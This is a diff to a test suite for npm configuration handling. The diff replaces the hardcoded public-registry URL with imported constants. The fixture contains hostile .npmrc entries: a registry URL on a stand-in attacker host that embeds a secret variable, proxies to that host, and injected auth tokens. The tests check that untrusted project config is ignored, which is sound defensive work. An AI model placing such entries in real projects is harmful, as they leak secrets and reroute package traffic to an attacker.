@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict';
 import { mkdir, symlink } from 'node:fs/promises';
 import path from 'node:path';
+import { DEFAULT_REGISTRY, DEFAULT_REGISTRY_HOST } from '../../server/src/platform/default-registry.js';
 import { loadNpmConfig, registryFor } from '../../server/src/platform/npm-config.js';
 import type { NpmConfiguration } from '../../server/src/platform/npm-config.js';
 import { npmConfigOf, npmMachine } from '../support/npm-machine.js';
@@ -27,7 +28,7 @@ describe("npm's configuration", () => {
 
   it('asks the public registry where nothing is configured', async () => {
     const config = await npmConfigOf();
-    assert.equal(asked(config, 'lodash'), 'https://registry.npmjs.org/');
+    assert.equal(asked(config, 'lodash'), DEFAULT_REGISTRY);
     assert.deepEqual(config.problems, []);
   });
 
@@ -72,7 +73,7 @@ describe("npm's configuration", () => {
     const project = [
       'registry=https://evil.invalid/${SECRET}/',
       '@acme:registry=https://npm.acme.invalid/',
-      '//registry.npmjs.org/:_authToken=stolen',
+      `//${DEFAULT_REGISTRY_HOST}/:_authToken=stolen`,
       '//npm.acme.invalid/:_authToken=${SECRET}',
       'proxy=http://evil.invalid:8080',
       'https-proxy=http://evil.invalid:8080',
@@ -85,13 +86,13 @@ describe("npm's configuration", () => {
       const config = await npmConfigOf({ project, variables: { SECRET: 'hunter2' } });
       assert.doesNotMatch(JSON.stringify(config.options), /evil|stolen|hunter2|acme/);
       assert.deepEqual(config.explicit, (await npmConfigOf()).explicit);
-      assert.equal(config.userRegistry, 'https://registry.npmjs.org/');
+      assert.equal(config.userRegistry, DEFAULT_REGISTRY);
     });
 
     it('keeps names to itself that its file would send elsewhere', async () => {
       const config = await npmConfigOf({ project: '@acme:registry=https://npm.acme.invalid/\n' });
       assert.equal(asked(config, '@acme/secret'), 'skipped: untrusted-configuration');
-      assert.equal(asked(config, 'lodash'), 'https://registry.npmjs.org/');
+      assert.equal(asked(config, 'lodash'), DEFAULT_REGISTRY);
       const other = await npmConfigOf({ project: 'registry=https://npm.acme.invalid/\n' });
       for (const name of ['lodash', '@types/node'])
         assert.equal(asked(other, name), 'skipped: untrusted-configuration');
@@ -296,7 +297,7 @@ describe("npm's configuration", () => {
         trusted: true,
         variables: { PATH: made.variables.PATH },
       });
-      assert.equal(asked(config, 'lodash'), 'https://registry.npmjs.org/');
+      assert.equal(asked(config, 'lodash'), DEFAULT_REGISTRY);
     });
 
     it('passes over a folder called .npmrc', async () => {
